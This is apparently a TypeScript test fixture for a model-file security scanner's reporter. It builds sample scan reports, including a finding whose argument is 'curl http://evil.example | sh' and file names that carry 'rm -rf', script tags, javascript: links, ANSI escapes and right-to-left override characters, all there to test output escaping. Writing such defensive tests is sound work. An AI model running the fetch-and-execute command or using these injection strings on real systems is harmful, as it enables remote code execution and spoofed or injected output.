/** Hand-built scan reports for the reporter tests. */
import { evaluateGate, type GateResult } from '../../src/core/gate.js';
import type { Threshold } from '../../src/core/severity.js';
import type { FileResult, Finding, ScanReport } from '../../src/core/types.js';

export const ROOT = '/work/repo';

/** File and member names an attacker can choose. */
export const EVIL = {
  pipeAndScript: 'models/a|b <script>alert(1)</script>.pkl',
  backticksAndNewline: 'models/`rm -rf`\n## Heading.pt',
  ansi: 'models/\u001b[31mred\u001b[0m.pkl',
  rtl: 'models/evil\u202Egnp.pkl',
  link: '[click](javascript:alert(1)) ![img](http://evil.example/x.png) @octocat #1 www.evil.example.pkl',
  percentHashSpace: 'models/50% off #1 ünï.bin',
};

export function finding(partial: Partial<Finding> & Pick<Finding, 'file'>): Finding {
  return {
    ruleId: 'pickle/code-execution',
    severity: 'critical',
    format: 'pickle',
    message: 'Loading this file runs a shell command chosen by the file.',
    ...partial,
  };
}

export function fileResult(file: string, findings: Omit<Finding, 'file'>[] = [], extra: Partial<FileResult> = {}): FileResult {
  return {
    file,
    absolutePath: file.startsWith('/') ? file : `${ROOT}/${file}`,
    size: 1234,
    formats: ['pickle'],
    status: 'complete',
    reasons: [],
    findings: findings.map((f) => ({ ...f, file })),
    durationMs: 3,
    ...extra,
  };
}

export function report(files: FileResult[], extra: Partial<ScanReport> = {}): ScanReport {
  return {
    tool: { name: 'modelscan-action', version: '0.1.0' },
    root: ROOT,
    startedAt: '2026-01-02T03:04:05.000Z',
    durationMs: 1500,
    files,
    errors: [],
    skipped: [],
    ...extra,
  };
}

/** A report with every severity, archive members, offsets, incomplete/unsupported/error files, input errors and skipped entries. */
export function richReport(): ScanReport {
  return report(
    [
      fileResult(
        'models/model.pt',
        [
          {
            ruleId: 'pickle/code-execution',
            severity: 'critical',
            format: 'pickle',
            member: 'archive/data.pkl',
            offset: 123,
            callable: 'os.system',
            args: ["'curl http://evil.example | sh'"],
            message: 'Loading this file runs a shell command chosen by the file.',
            properties: { occurrences: 2 },
          },
          {
            ruleId: 'pickle/system-access',
            severity: 'high',
            format: 'pickle',
            member: 'archive/data.pkl',
            offset: 456,
            callable: 'builtins.open',
            message: 'Loading this file opens a file on the machine.',
          },
        ],
        { formats: ['pytorch-zip', 'pickle'] },
      ),
      fileResult('models/classifier.pkl', [
        {
          ruleId: 'pickle/unknown-import',
          severity: 'medium',
          format: 'pickle',
          offset: 2,
          callable: 'mylib.Model',
          message: 'The pickle imports mylib.Model, which is not a known-safe model class.',
        },
      ]),
      fileResult('weights/clean.pkl'),
      fileResult(
        'weights/broken.pkl',
        [
          {
            ruleId: 'scan/incomplete',
            severity: 'medium',
            format: 'pickle',
            offset: 99,
            message: 'The pickle stream is truncated at byte 99, so the rest was not checked.',
          },
        ],
        { status: 'incomplete', reasons: ['pickle stream truncated at byte 99'] },
      ),
      fileResult(
        'weights/mystery.bin',
        [{ ruleId: 'scan/unsupported-format', severity: 'low', format: 'unknown', message: 'Not scanned: no scanner recognised its content, so it is not known to be safe.' }],
        { formats: [], status: 'unsupported', reasons: ['no scanner recognised its content'] },
      ),
      fileResult(
        'weights/locked.pkl',
        [{ ruleId: 'scan/read-error', severity: 'medium', format: 'file', message: 'The file could not be read: EACCES.' }],
        { formats: [], size: 0, status: 'error', reasons: ['cannot read: EACCES'] },
      ),
    ],
    {
      errors: [{ path: 'missing/model.pt', message: 'no such file or directory' }],
      skipped: [{ path: 'models/link.pkl', reason: 'symlink points outside the root' }],
    },
  );
}

/** A report whose every attacker-chosen string is hostile. */
export function evilReport(): ScanReport {
  const evilFinding = (member?: string): Omit<Finding, 'file'> => ({
    ruleId: 'pickle/code-execution',
    severity: 'critical',
    format: 'pickle',
    ...(member !== undefined ? { member } : {}),
    offset: 7,
    callable: 'os.system`<img src=x onerror=alert(1)>`',
    args: ['"\u001b]8;;http://evil.example\u0007click\u001b]8;;\u0007"', '| col |'],
    message: 'Loading this file runs <b>os.system</b> | with `backticks`\nand a newline, ask @octocat about #1.',
  });
  return report(
    [
      fileResult(EVIL.pipeAndScript, [evilFinding()]),
      fileResult(EVIL.backticksAndNewline, [evilFinding(EVIL.link)]),
      fileResult(EVIL.ansi, [evilFinding('a\u001b[2Jb')]),
      fileResult(EVIL.rtl, [evilFinding('x\u202Ey\u2066z')]),
      fileResult(EVIL.percentHashSpace, [evilFinding()]),
      fileResult(EVIL.link, [], { status: 'incomplete', reasons: ['stopped at <script>alert(1)</script> | \n# reason'] }),
    ],
    {
      errors: [{ path: '<img src=x>|\u001b[31m', message: 'bad\n## path' }],
      skipped: [{ path: '`skipped`|\u202E', reason: '[x](javascript:1)' }],
    },
  );
}

export function gateFor(r: ScanReport, threshold: Threshold = 'high'): GateResult {
  return evaluateGate(r, threshold);
}
